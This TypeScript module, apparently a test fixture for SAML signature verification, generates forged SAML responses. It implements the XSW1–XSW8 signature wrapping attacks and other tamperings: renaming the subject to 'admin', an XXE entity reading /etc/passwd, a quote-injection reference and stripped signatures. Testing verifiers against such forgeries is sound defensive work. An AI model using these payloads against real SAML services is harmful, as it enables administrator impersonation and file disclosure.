/** Parts of a response that was honestly signed, and one of the attacker's making. */
interface Parts {
  readonly response: string;
  readonly assertion: string;
  readonly assertionSignature: string;
  readonly responseSignature: string;
  /** The assertion about the attacker's wish: another id and subject, no signature. */
  readonly evil: string;
}

/** A way to have one part verified and another one read. */
export interface Wrapping {
  readonly name: string;
  readonly wrap: (xml: string) => string;
}

const EVIL_ID = '_evil0123456789';
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;

function part(xml: string, pattern: RegExp): string {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error('The response has another form than the attack needs.');
  return found;
}

/** The same element about somebody else, with another id and without its signature. */
function evilTwin(element: string): string {
  return element
    .replaceAll(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, '')
    .replace(/ ID="[^"]+"/, ` ID="${EVIL_ID}"`)
    .replace(/(<saml:NameID[^>]*>)[^<]*/, '$1admin');
}

function partsOf(response: string): Parts {
  const assertion = part(response, /<saml:Assertion[\s\S]*<\/saml:Assertion>/);
  const assertionSignature = part(assertion, SIGNATURE);
  const responseSignature = part(response.replace(assertion, ''), SIGNATURE);
  return { response, assertion, assertionSignature, responseSignature, evil: evilTwin(assertion) };
}

const unsigned = (element: string): string => element.replaceAll(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, '');
const withSignature = (element: string, signature: string): string =>
  element.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
const inside = (signature: string, content: string): string =>
  signature.replace('</ds:Signature>', `${content}</ds:Signature>`);
const asObject = (content: string): string => `<ds:Object>${content}</ds:Object>`;

/** XSW1 to XSW8 ("On Breaking SAML: Be Whoever You Want to Be", 2012), and some of their neighbours. */
export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed response inside of the signature of another one',
    wrap: (xml: string): string => {
      const { response, responseSignature } = partsOf(xml);
      const original = response.replace(responseSignature, '');
      return withSignature(evilTwin(response), inside(responseSignature, original));
    },
  },
  {
    name: 'XSW2: the signed response before a detached signature in another one',
    wrap: (xml: string): string => {
      const { response, responseSignature } = partsOf(xml);
      return withSignature(evilTwin(response), response.replace(responseSignature, '') + responseSignature);
    },
  },
  {
    name: 'XSW3: another assertion before the signed one',
    wrap: (xml) => xml.replace(/<saml:Assertion/, `${partsOf(xml).evil}<saml:Assertion`),
  },
  {
    name: 'XSW4: the signed assertion inside of another one',
    wrap: (xml: string): string => {
      const { assertion, evil } = partsOf(xml);
      return xml.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
    },
  },
  {
    name: 'XSW5: another assertion with the signature, the signed one behind it',
    wrap: (xml: string): string => {
      const { assertion, assertionSignature, evil } = partsOf(xml);
      return xml.replace(assertion, withSignature(evil, assertionSignature) + unsigned(assertion));
    },
  },
  {
    name: 'XSW6: the signed assertion inside of the signature of another one',
    wrap: (xml: string): string => {
      const { assertion, assertionSignature, evil } = partsOf(xml);
      return xml.replace(assertion, withSignature(evil, inside(assertionSignature, unsigned(assertion))));
    },
  },
  {
    name: 'XSW7: another assertion among extensions',
    wrap: (xml: string): string => {
      const { assertion, evil } = partsOf(xml);
      return xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
    },
  },
  {
    name: 'XSW8: the signed assertion in an object of another one’s signature',
    wrap: (xml: string): string => {
      const { assertion, assertionSignature, evil } = partsOf(xml);
      return xml.replace(assertion, withSignature(evil, inside(assertionSignature, asObject(unsigned(assertion)))));
    },
  },
  { name: 'two signatures of the response', wrap: (xml) => xml.replace(SIGNATURE, (first) => first + first) },
  {
    name: 'two references in one signature',
    wrap: (xml) => xml.replace(/<ds:Reference[\s\S]*?<\/ds:Reference>/, (first) => first + first),
  },
  { name: 'a reference without #', wrap: (xml) => xml.replace(/URI="#/, 'URI="') },
  { name: 'a reference to everything', wrap: (xml) => xml.replace(/URI="#[^"]+"/, 'URI=""') },
  { name: 'a quote in a reference', wrap: (xml) => xml.replace(/URI="#([^"]+)"/, `URI="#$1' or '1'='1"`) },
  {
    name: 'the id of the response twice',
    wrap: (xml: string): string => {
      const id = part(xml, / ID="[^"]+"/);
      return xml.replace('<samlp:Status>', `<samlp:Status${id}>`);
    },
  },
  {
    name: 'another spelling of an id',
    wrap: (xml: string): string => {
      const id = part(xml, /(?<= ID=")[^"]+/);
      return xml.replace('<samlp:Status>', `<samlp:Status Id="${id}">`);
    },
  },
  { name: 'two roots', wrap: (xml) => xml + evilTwin(xml) },
  { name: 'a comment in the name', wrap: (xml) => xml.replace(/(<saml:NameID[^>]*>.)/, '$1<!---->') },
  { name: 'a document type', wrap: (xml) => `<!DOCTYPE a [<!ENTITY b "c">]>${xml}` },
  {
    name: 'an entity of a document type in the name',
    wrap: (xml) =>
      `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>${xml.replace(/(<saml:NameID[^>]*>)/, '$1&b;')}`,
  },
  { name: 'a processing instruction', wrap: (xml) => xml.replace('<saml:Issuer>', '<?evil ?><saml:Issuer>') },
  { name: 'a CDATA section', wrap: (xml) => xml.replace(/(<saml:NameID[^>]*>)/, '$1<![CDATA[x]]>') },
  {
    name: 'an assertion that is encrypted as well',
    wrap: (xml) => xml.replace('</samlp:Response>', '<saml:EncryptedAssertion/></samlp:Response>'),
  },
  { name: 'no signature of the response', wrap: (xml) => xml.replace(SIGNATURE, '') },
  { name: 'no signature at all', wrap: unsigned },
  { name: 'another name after it was signed', wrap: (xml) => xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1admin') },
  {
    name: 'another attribute after it was signed',
    wrap: (xml) => xml.replace('<saml:AttributeValue>', '<saml:AttributeValue>admins'),
  },
  { name: 'something else than XML', wrap: () => 'not xml' },
];
